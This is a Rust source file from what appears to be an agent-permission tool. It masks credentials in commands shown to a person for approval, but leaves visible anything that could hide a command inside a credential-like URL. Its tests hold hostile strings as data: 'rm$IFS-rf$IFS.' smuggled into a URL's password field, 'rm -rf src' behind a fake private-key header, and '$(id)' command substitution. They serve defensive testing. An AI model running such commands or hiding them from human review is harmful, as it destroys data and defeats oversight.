//! Words with credentials taken out, and nothing else: what a person says yes to must not hide among them.
//!
//! An agent can write what looks like a credential around a command: `http://a:$(…)@b`. In a text that something may
//! execute, only what can be no command is taken out; where it could, the person sees it all.

use argrail_spec::atip::Invoked;

use crate::output::CommandMask;
use crate::output::REDACTED;
use crate::policy::Facts;

/// Texts of a call that something may execute: programs, words that nobody verified, and values of flags that start any
/// program.
#[derive(Debug)]
pub(crate) struct Code<'f>(Vec<&'f str>);

impl<'f> Code<'f> {
    /// Those of a call and of all inside it.
    pub(crate) fn of(facts: &'f Facts) -> Self {
        let mut texts = Vec::new();
        gather(facts, &mut texts);
        Self(texts)
    }

    /// Returns the words without credentials: without those that are known, whatever they look like.
    pub(crate) fn masked(&self, words: &[String], mask: &CommandMask) -> Vec<String> {
        let shown = words.iter().zip(mask.words(words)).zip(mask.known_words(words));
        let shown = shown.map(|((word, shown), known)| {
            let runs = || {
                self.0
                    .iter()
                    .any(|text| word.contains(text) || text.contains(word.as_str()))
            };
            if shown == *word || !runs() {
                return shown;
            }
            // The value of a flag for credentials is one, whatever it looks like.
            let alone = mask.words(std::slice::from_ref(word)).concat();
            let of_flag = shown != alone && known == *word;
            match of_flag || hides_no_command(&known, &shown) {
                true => shown,
                false => known,
            }
        });
        shown.collect()
    }
}

fn gather<'f>(facts: &'f Facts, texts: &mut Vec<&'f str>) {
    let Invoked {
        programs, unverified, ..
    } = &facts.invoked;
    let words = unverified.iter().map(|word| word.text.as_str());
    let words = words.filter(|word| !word.starts_with('-'));
    let programs = programs.iter().map(|program| program.text.as_str());
    let commands = facts.commands_of_flags();
    texts.extend(
        words
            .chain(programs)
            .chain(commands)
            .filter(|text| !text.is_empty()),
    );
    facts.inner.iter().for_each(|inner| gather(inner, texts));
}

/// Whether everything that was taken out of a text is one plain word each. If it can be read so, nothing that is shown
/// says otherwise.
fn hides_no_command(text: &str, masked: &str) -> bool {
    let mut pieces = masked.split(REDACTED);
    let Some(mut rest) = pieces.next().and_then(|first| text.strip_prefix(first)) else {
        return false;
    };
    let mut pieces = pieces.peekable();
    while let Some(piece) = pieces.next() {
        let found = match pieces.peek() {
            Some(_) => rest.split_once(piece),
            None => rest.strip_suffix(piece).map(|hidden| (hidden, "")),
        };
        let Some((_, after)) = found.filter(|(hidden, _)| hidden.chars().all(is_plain)) else {
            return false;
        };
        rest = after;
    }
    true
}

/// What tokens, and names and passwords in URLs, are made of. Nothing of it ends a word.
fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_-.~+/=%:".contains(c)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::output::Secrets;
    use crate::policy::tests::input::facts;

    fn plain() -> CommandMask {
        CommandMask::new(Secrets::none())
    }

    #[test]
    fn a_command_does_not_hide_as_a_credential() {
        let check = |text: &str, want: &str| {
            let call = json!({"tool": "sh", "words": [text], "unverified": [text]});
            let call = facts(&call);
            let words = [text.to_owned()];
            assert_eq!(Code::of(&call).masked(&words, &plain()), [want]);
        };
        let evil = "x=http://a:;rm$IFS-rf$IFS.;@b";
        check(evil, evil);
        let evil = "#-----BEGIN PRIVATE KEY-----\nrm -rf src\n";
        check(evil, evil);
        let evil = "curl http://a:$(id)@b; curl http://u:secret@h/";
        check(evil, evil);
        check("curl http://u:secret@h/", "curl http://[redacted]@h/");
        check(
            "curl -H 'Authorization: Bearer abcdef123456'",
            "curl -H 'Authorization: Bearer [redacted]'",
        );
        check("echo [redacted]", "echo [redacted]");
        let evil = "x=http://a:;rm$IFS-rf$IFS.;@b";
        let call = json!({
            "tool": "tar", "effects": {"idempotent": true},
            "options": [{"spellings": ["--to-command"], "values": [evil]}],
            "raised": [{"by": "--to-command", "effects": {"x-exec": "any"}}],
        });
        assert_eq!(
            Code::of(&facts(&call)).masked(&[evil.to_owned()], &plain()),
            [evil]
        );
    }

    #[test]
    fn what_nothing_executes_is_without_credentials() {
        let call = facts(&json!({"tool": "curl", "words": ["http://u:p$x@h/"]}));
        let words = ["--token", "a b", "http://u:p$x@h/"].map(str::to_owned);
        let shown = Code::of(&call).masked(&words, &plain());
        assert_eq!(shown, ["--token", "[redacted]", "http://[redacted]@h/"]);
        // A flag says so, also where nobody knows the tool.
        let call = facts(&json!({"tool": "x", "unverified": ["--token", "a b"]}));
        assert_eq!(Code::of(&call).masked(&words, &plain())[1], "[redacted]");
        let text = "echo hunter2; http://a:$(id)@b";
        let call = facts(&json!({"tool": "sh", "unverified": [text]}));
        let known = CommandMask::new(Secrets::named([("DB", "hunter2")]));
        let shown = Code::of(&call).masked(&[text.to_owned()], &known);
        assert_eq!(shown, ["echo [secret:DB]; http://a:$(id)@b"]);
        let text = "echo hunt''er2; curl http://u:pw1234@h/";
        let call = facts(&json!({"tool": "sh", "unverified": [text]}));
        let shown = Code::of(&call).masked(&[text.to_owned()], &known);
        assert_eq!(shown, ["echo [secret:DB]; curl http://[redacted]@h/"]);
    }
}
